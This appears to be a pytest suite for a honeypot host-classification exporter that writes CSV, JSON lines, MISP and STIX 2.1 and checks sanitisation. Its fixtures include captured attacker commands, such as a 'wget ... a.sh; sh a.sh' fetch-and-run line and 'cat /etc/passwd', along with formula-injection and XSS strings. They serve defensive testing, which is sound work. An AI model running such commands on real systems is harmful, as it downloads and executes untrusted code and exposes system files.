"""darkstack export: a day's classified hosts as CSV, JSON lines, MISP and STIX 2.1, each parsed back by its library."""

from __future__ import annotations

import csv
import io
import json
import os

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest

from darkstack import atomic
from darkstack.cli import FAILED, NOTHING_COMPUTED, main
from darkstack.export import export, export_dir
from darkstack.export.formats import FORMULA_START, neutralise
from darkstack.export.hosts import COLUMNS, clean_text
from darkstack.schema import int_to_ip
from darkstack.stack.predict import neighbours_path, predictions_path
from darkstack.store import read_day
from darkstack.workspace import Workspace
from export_fixtures import DAYS, DOWNLOAD, LABEL_SOURCES, FORMULA, HOSTILE, LONG, MIRAI_LIKE, QUOTES, XSS, classified_world

DAY = DAYS[-1]


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """The classified world of export_fixtures, exported once (scenario H, last day)."""
    tmp = tmp_path_factory.mktemp("export")
    ws = Workspace(tmp / "ws")
    ips, labels = classified_world(ws, tmp)
    return ws, ips, labels, export(ws, "H", DAY)


def _files(world) -> dict[str, str]:
    return {p.name: p.read_text(encoding="utf-8") for p in world[3] if p.suffix != ".parquet"}


def test_predict_keeps_the_neighbours_behind_each_base_vote(world):
    ws = world[0]
    near = pq.read_table(neighbours_path(ws, "H", DAY)).to_pandas()
    predicted = pq.read_table(predictions_path(ws, "H", DAY).with_suffix(".parquet")).column("ip").to_numpy()
    assert set(near["ip"]) == set(predicted) and set(near["base"]) == {"honeypot:ds", "honeypot:idarkvec", "honeypot:igcngru"}
    assert near.groupby(["ip", "base"])["rank"].apply(list).tolist() == [[1, 2, 3]] * (len(predicted) * 3)
    assert not (near["ip"] == near["neighbour"]).any()


def test_every_format_parses_back_with_the_same_hosts(world):
    import stix2

    files = _files(world)
    table = pq.read_table(world[3][0]).to_pandas()
    addresses = table["address"].tolist()
    rows = list(csv.DictReader(io.StringIO(files["hosts.csv"])))
    assert list(rows[0]) == COLUMNS and [r["address"] for r in rows] == addresses
    frame = pd.read_csv(io.StringIO(files["hosts.csv"]))
    assert frame["probability"].tolist() == pytest.approx(table["probability"].tolist())
    lines = [json.loads(line) for line in files["hosts.jsonl"].splitlines()]
    assert [line["address"] for line in lines] == addresses and list(lines[0]) == COLUMNS

    event = json.loads(files["misp.json"])["Event"]
    assert {"uuid", "info", "date", "threat_level_id", "analysis", "distribution", "Attribute", "Tag"} <= set(event)
    hosts = [a for a in event["Attribute"] if a["type"] == "ip-src"]
    assert event["date"] == str(DAY) and [a["value"] for a in hosts] == addresses
    assert all(a["Tag"] == [{"name": f'darkstack:class="{r["class"]}"'}] for a, r in zip(hosts, lines))
    assert [a["to_ids"] for a in hosts] == [r["class"] == "mirai" for r in lines]

    bundle = stix2.parse(files["stix.json"], allow_custom=False)
    indicators = [o for o in bundle.objects if o.type == "indicator"]
    assert [i.pattern for i in indicators] == [f"[ipv4-addr:value = '{a}']" for a in addresses]
    assert [i.confidence for i in indicators] == [round(100 * p) for p in table["probability"]]
    assert [i.labels[0] for i in indicators] == table["class"].tolist()
    kinds = {"mirai": "malicious-activity", "censys": "benign", "shodan": "benign", "unknown": "anomalous-activity"}
    assert [i.indicator_types for i in indicators] == [[kinds[c]] for c in table["class"]]
    notes = [o for o in bundle.objects if o.type == "note"]
    assert len(notes) == sum(bool(line["honeypot_events"]) for line in lines)
    assert {ref for n in notes for ref in n.object_refs} <= {i.id for i in indicators}


def test_hosts_carry_class_deciding_base_cluster_and_store_times(world):
    ws, ips, labels = world[:3]
    table = pq.read_table(world[3][0]).to_pandas().set_index("address")
    predicted = pq.read_table(predictions_path(ws, "H", DAY).with_suffix(".parquet")).to_pandas()
    assert table.index[table["source"] == "predicted"].tolist() == predicted["address"].tolist()  # most probable first
    table = table[table["source"] == "predicted"]
    mirai_like = int_to_ip(ips[labels == "unknown"][-MIRAI_LIKE:])
    assert (table.loc[mirai_like, "class"] == "mirai").all()  # unlabelled hosts acting as bots are labelled so
    contrib = [c for c in table.columns if c.startswith("contrib_")]
    top = table[contrib].to_numpy().argmax(axis=1)
    assert table["top_base"].tolist() == [contrib[i].split(":")[1] for i in top]
    assert table["top_contribution"].to_numpy() == pytest.approx(table[contrib].to_numpy().max(axis=1))
    assert set(table["top_sensor"]) == {"honeypot"}

    unknown = int_to_ip(ips[labels == "unknown"])
    assert table.at[unknown[0], "group"] == XSS and table.at[unknown[1], "group"] == "G1" and table.at[unknown[1], "cluster"] == 0
    assert table.at[unknown[-1], "cluster"] == -1 and pd.isna(table.at[unknown[-1], "group"])  # noise: no group

    store = pd.concat([read_day(ws, "honeypot", d).to_pandas() for d in DAYS])
    first = store.groupby("src_ip")["ts"].min()
    for address in table.index[:5]:
        assert table.at[address, "first_seen"] == first[table.at[address, "ip"]].strftime("%Y-%m-%dT%H:%M:%SZ")
        assert table.at[address, "last_seen"].startswith(str(DAY))
    assert table.at[unknown[1], "services"] == FORMULA.lower() and table.at[unknown[-1], "services"] == "ssh"
    assert not table["anonymised"].any()

    near = pq.read_table(neighbours_path(ws, "H", DAY)).to_pandas()
    for address, listed in table["neighbours"].items():  # each host's neighbours, base by base, nearest first
        ip = int(table.at[address, "ip"])
        rows = near[near["ip"] == ip]
        assert [n["address"] for n in listed] == int_to_ip(rows["neighbour"].to_numpy()).tolist()
        assert [n["base"] for n in listed] == rows["base"].tolist() and [n["label"] for n in listed] == rows["label"].tolist()


def test_without_discover_output_the_cluster_columns_stay_empty(world, tmp_path):
    ws = world[0]
    discover = ws.results_dir / "discover"
    os.rename(discover, tmp_path / "discover")
    try:
        export(ws, "H", DAY, settings=None)
        table = pq.read_table(export_dir(ws, "H", DAY) / "hosts.parquet").to_pandas()
        assert table["cluster"].isna().all() and table["group"].isna().all() and table["cluster_sensor"].isna().all()
        assert "cluster" in next(csv.reader(io.StringIO((export_dir(ws, "H", DAY) / "hosts.csv").read_text())))
    finally:
        os.rename(tmp_path / "discover", discover)
        export(ws, "H", DAY)


def test_export_again_writes_the_same_bytes(world):
    before = _files(world)
    export(world[0], "H", DAY)
    assert _files(world) == before


def test_formula_cells_are_neutralised_and_numbers_kept():
    assert [neutralise(p) for p in HOSTILE] == ["".join(("'" if p.startswith(FORMULA_START) else "", p)) for p in HOSTILE]
    assert neutralise(FORMULA) == "'" + FORMULA and neutralise("\tcmd") == "'\tcmd" and neutralise("\rcmd") == "'\rcmd"
    assert neutralise(-0.5) == -0.5 and neutralise("ssh") == "ssh" and neutralise(None) is None
    assert clean_text("a\x00b\x1b[31mc\udc80") == "a\ufffdb\ufffd[31mc?"


def test_anonymised_store_marks_the_exported_addresses(world, tmp_path):
    ws = world[0]
    key = tmp_path / "key"
    key.write_bytes(bytes(range(32)))
    log = tmp_path / "extra.json"
    log.write_text(json.dumps({"eventid": "cowrie.session.connect", "session": "x", "src_ip": "198.51.100.7", "dst_port": 22,
                               "timestamp": f"{DAY}T12:00:00Z"}) + "\n")
    from darkstack.ingest import ingest

    ingest(ws, [log], "honeypot", anonymise_key=key)
    try:
        paths = export(ws, "H", DAY)
        files = {p.name: p.read_text() for p in paths if p.suffix != ".parquet"}
        assert all(json.loads(line)["anonymised"] for line in files["hosts.jsonl"].splitlines())
        assert {"name": 'darkstack:anonymised="crypto-pan"'} in json.loads(files["misp.json"])["Event"]["Tag"]
        assert '"anonymised"' in files["stix.json"]
    finally:
        from darkstack.ingest import manifest

        entries = manifest.load(ws)
        entries.pop(str(log.resolve()))
        manifest.save(ws, entries)
        export(ws, "H", DAY)


def test_cli_exports_each_predicted_scenario_and_says_what_it_cannot(world, capsys, tmp_path):
    ws = world[0]
    assert main(["export", "-w", str(ws.root), "--format", "csv", "--format", "stix"]) == 0
    out = capsys.readouterr().out
    assert out.split() == [str(export_dir(ws, "H", DAY) / n) for n in ("hosts.parquet", "hosts.csv", "stix.json")]
    assert sorted(p.name for p in export_dir(ws, "H", DAY).iterdir()) == ["hosts.csv", "hosts.parquet", "stix.json"]
    assert main(["export", "-w", str(ws.root), "--format", "xml"]) == FAILED
    assert "unknown export format(s) xml" in capsys.readouterr().err
    assert main(["export", "-w", str(ws.root), "--day", str(DAYS[0])]) == NOTHING_COMPUTED
    assert main(["export", "-w", str(ws.root), "--scenario", "D", "--day", str(DAY)]) == NOTHING_COMPUTED
    lines = capsys.readouterr().err.splitlines()
    assert lines == [f"not computed: export {DAYS[0]}: no predictions of this day: run `darkstack predict` first",
                     f"not computed: export scenario D, {DAY}: no predictions of this day: run `darkstack predict` first"]
    assert main(["export", "-w", str(tmp_path / "empty")]) == NOTHING_COMPUTED
    export(ws, "H", DAY)


def test_hosts_with_a_ground_truth_label_are_exported_with_their_source(world):
    import stix2

    ws, ips, labels = world[:3]
    table = pq.read_table(world[3][0]).to_pandas()
    known = labels != "unknown"
    truth = table[table["source"] != "predicted"]
    assert truth["address"].tolist() == int_to_ip(ips[known]).tolist() and truth.index.tolist() == list(range(known.sum()))
    assert truth["class"].tolist() == labels[known].tolist()
    assert truth["source"].tolist() == ["label:" + LABEL_SOURCES[c] for c in labels[known]]
    assert (truth["probability"] == 1.0).all() and truth[["runner_up", "runner_up_probability", "top_base", "top_contribution"]].isna().all().all()
    assert truth[[c for c in table.columns if c.startswith("contrib_")]].isna().all().all() and not any(map(len, truth["neighbours"]))
    assert all(u[0]["value"] == "root" for u in truth["usernames"]) and truth["last_seen"].str.startswith(str(DAY)).all()

    files = _files(world)
    rows = {r["address"]: r for r in csv.DictReader(io.StringIO(files["hosts.csv"]))}
    assert all(rows[a]["source"] == s and rows[a]["runner_up"] == "" for a, s in zip(truth["address"], truth["source"]))
    hosts = {a["value"]: a for a in json.loads(files["misp.json"])["Event"]["Attribute"] if a["type"] == "ip-src"}
    for address, cls, source in zip(truth["address"], truth["class"], truth["source"]):  # bots to IDS, scanners not
        assert hosts[address]["to_ids"] is (cls == "mirai") and hosts[address]["comment"].startswith(f"{cls} (ground truth, {source})")
    indicators = {o.name.split(":")[0]: o for o in stix2.parse(files["stix.json"], allow_custom=False).objects if o.type == "indicator"}
    assert {indicators[a].confidence for a in truth["address"]} == {100}
    assert {indicators[a].indicator_types[0] for a in truth["address"][truth["class"] != "mirai"]} == {"benign"}


def test_include_chooses_predicted_or_labelled_hosts(world, capsys):
    from darkstack.export.settings import ExportSettings

    ws = world[0]
    full = pq.read_table(world[3][0]).to_pandas()
    predicted = pq.read_table(predictions_path(ws, "H", DAY).with_suffix(".parquet")).to_pandas()
    try:
        export(ws, "H", DAY, ExportSettings(include="predicted"))
        table = pq.read_table(export_dir(ws, "H", DAY) / "hosts.parquet").to_pandas()
        assert table["address"].tolist() == predicted["address"].tolist() and set(table["source"]) == {"predicted"}
        assert table["probability"].tolist() == predicted["probability"].tolist()
        assert table["runner_up"].tolist() == predicted["runner_up"].tolist()
        pd.testing.assert_frame_equal(table, full[full["source"] == "predicted"].reset_index(drop=True))
        assert main(["export", "-w", str(ws.root), "--include", "labelled", "--format", "jsonl"]) == 0
        lines = [json.loads(line) for line in (export_dir(ws, "H", DAY) / "hosts.jsonl").read_text().splitlines()]
        assert [line["address"] for line in lines] == full["address"][full["source"] != "predicted"].tolist()
        capsys.readouterr()
        assert main(["export", "-w", str(ws.root), "--include", "guessed"]) == FAILED
        assert "--include: Input should be 'all', 'predicted' or 'labelled'" in capsys.readouterr().err
        labels = pq.read_table(ws.labels_day(DAY))
        atomic.write_parquet(ws.labels_day(DAY), labels.schema.empty_table())  # a day without ground truth
        try:
            assert main(["export", "-w", str(ws.root), "--include", "labelled"]) == NOTHING_COMPUTED
            assert capsys.readouterr().err.splitlines() == [f"not computed: export scenario H, {DAY}: no host with a ground-truth label on the "
                                                            "scenario's sensors (change: --include / export.include)"]
        finally:
            atomic.write_parquet(ws.labels_day(DAY), labels)
    finally:
        export(ws, "H", DAY)


# --- honeypot activity -------------------------------------------------------------------------------

MISP_CATEGORY_TYPES = {
    "Targeting data": {"target-user", "target-email", "target-machine", "target-org", "target-location", "target-external", "comment", "anonymised"},
    "Payload delivery": {"url", "text", "filename", "md5", "sha256", "user-agent", "ip-src", "comment"},
    "Payload installation": {"text", "filename", "pattern-in-traffic", "comment"},
    "Network activity": {"ip-src", "ip-dst", "url", "uri", "user-agent", "http-method", "text", "comment"},
    "Other": {"comment", "text", "other"},
}
"""Part of MISP's category definitions (MISP's AttributesTable, ``generateCategoryDefinitions``): the types each
category admits; the exported attributes must be among them (pymisp is not a dependency)."""


def _expected_activity(ws, ips, top=5, length=200) -> dict[int, dict[str, list]]:
    """The activity summary computed here from the stored events with pandas (counted after the cut)."""
    from darkstack.store import read_events

    events = read_events(ws, "honeypot", DAY).to_pandas()
    events = events[events["src_ip"].isin(ips)]
    picks = {"honeypot_events": events["event"], "usernames": events["username"], "passwords": events["password"],
             "commands": events["detail"].where(events["event"] == "command"), "downloads": events["detail"].where(events["event"] == "download"),
             "web_requests": events["detail"].where(events["event"] == "web_request")}
    out: dict[int, dict[str, list]] = {}
    for column, values in picks.items():
        values = values.dropna().map(lambda v: v if len(v) <= length else v[:length] + "…")
        frame = pd.DataFrame({"ip": events.loc[values.index, "src_ip"], "value": values})
        for ip, group in frame.groupby("ip"):
            counts = group["value"].value_counts().reset_index()
            counts = counts.sort_values(["count", "value"], ascending=[False, True], kind="stable")
            if column != "honeypot_events":
                counts = counts.head(top)
            out.setdefault(ip, {})[column] = [{"value": clean_text(v), "count": int(n)} for v, n in zip(counts["value"], counts["count"])]
    return out


def test_each_host_carries_its_honeypot_activity_of_the_day_bounded(world):
    from darkstack.export.activity import ACTIVITY

    ws, ips = world[:2]
    table = pq.read_table(world[3][0]).to_pandas()
    expected = _expected_activity(ws, ips)
    for _, row in table.iterrows():
        want = expected.get(int(row["ip"]), {})
        assert {c: list(row[c]) for c in ACTIVITY} == {c: want.get(c, []) for c in ACTIVITY}, row["address"]
    mirai_like = table[table["address"].isin(int_to_ip(ips[world[2] == "unknown"][-MIRAI_LIKE:]))]
    assert all(list(d) == [{"value": DOWNLOAD, "count": 1}] for d in mirai_like["downloads"])
    commands = [p["value"] for c in table["commands"] for p in c]
    long = next(c for c in commands if c.startswith("echo AAA"))
    assert len(long) == 201 and long == LONG[:200] + "…"
    assert XSS in commands and FORMULA in commands and QUOTES in commands
    assert "wget http://198.51.100.9/a.sh\ufffd\ufffdsh a.sh\ufffd" in commands  # CR, LF as U+FFFD
    assert any(c.startswith("cat /etc/passwd\ufffd") and "\ud83d" not in c for c in commands)  # NUL replaced, lone surrogate gone


def test_activity_bounds_are_options(world, capsys):
    from darkstack.export.settings import ExportSettings

    ws, ips = world[:2]
    try:
        export(ws, "H", DAY, ExportSettings(top_strings=1, max_string_length=16))
        table = pq.read_table(export_dir(ws, "H", DAY) / "hosts.parquet").to_pandas()
        expected = _expected_activity(ws, ips, top=1, length=16)
        assert [list(c) for c in table["commands"]] == [expected.get(int(ip), {}).get("commands", []) for ip in table["ip"]]
        assert max(len(p["value"]) for c in table["commands"] for p in c) == 17
        assert main(["export", "-w", str(ws.root), "--top-strings", "0", "--format", "jsonl"]) == 0
        lines = [json.loads(line) for line in (export_dir(ws, "H", DAY) / "hosts.jsonl").read_text().splitlines()]
        assert not any(line["usernames"] or line["commands"] for line in lines) and any(line["honeypot_events"] for line in lines)
        capsys.readouterr()
        assert main(["export", "-w", str(ws.root), "--max-string-length", "3"]) == FAILED
        assert "--max-string-length: Input should be greater than or equal to 16" in capsys.readouterr().err
    finally:
        export(ws, "H", DAY)


def test_activity_reaches_every_format_and_parses_back(world):
    import stix2

    files = _files(world)
    table = pq.read_table(world[3][0]).to_pandas().set_index("address")
    rows = {r["address"]: r for r in csv.DictReader(io.StringIO(files["hosts.csv"]))}
    for address, row in rows.items():
        for column in ("usernames", "passwords", "commands", "downloads", "web_requests"):
            assert (json.loads(row[column]) if row[column] else []) == [p["value"] for p in table.at[address, column]]
        assert row["honeypot_events"] == ", ".join(f"{p['value']} {p['count']}" for p in table.at[address, "honeypot_events"])
    lines = {line["address"]: line for line in map(json.loads, files["hosts.jsonl"].splitlines())}
    assert all(lines[a]["commands"] == list(table.at[a, "commands"]) for a in table.index)

    attributes = json.loads(files["misp.json"])["Event"]["Attribute"]
    strings = [a for a in attributes if a["type"] != "ip-src"]
    assert all(a["type"] in MISP_CATEGORY_TYPES[a["category"]] and a["to_ids"] is False for a in strings)
    assert len({(a["type"], a["category"], a["value"]) for a in attributes}) == len(attributes)  # MISP refuses duplicates
    assert len({a["uuid"] for a in attributes}) == len(attributes)
    by_value = {(a["category"], a["value"]): a for a in strings}
    assert by_value["Payload delivery", DOWNLOAD]["type"] == "url" and by_value["Payload delivery", "http://198.51.100.9/" + XSS]["type"] == "text"
    root = by_value["Targeting data", "root"]
    tried = sum(p["count"] for c in table["usernames"] for p in c if p["value"] == "root")
    assert root["type"] == "target-user" and root["comment"].startswith(f"username tried {tried} times on the honeypots by ")
    assert by_value["Payload installation", XSS]["comment"].endswith(f"by 1 host: {table.index[table['commands'].map(lambda c: any(p['value'] == XSS for p in c))][0]} (1)")

    bundle = stix2.parse(files["stix.json"], allow_custom=False)
    indicators = {o.id: o for o in bundle.objects if o.type == "indicator"}
    for note in (o for o in bundle.objects if o.type == "note"):
        address = indicators[note.object_refs[0]].name.split(":")[0]
        assert note.abstract == f"Honeypot activity of {address} on {DAY}"
        text = note.content.splitlines()
        assert text[0] == "events: " + rows[address]["honeypot_events"]
        for column in ("commands", "usernames"):
            if len(table.at[address, column]):
                line = next(t for t in text if t.startswith(column + ": "))
                assert line == column + ": " + ", ".join(f"{json.dumps(p['value'], ensure_ascii=False)} ({p['count']})" for p in table.at[address, column])
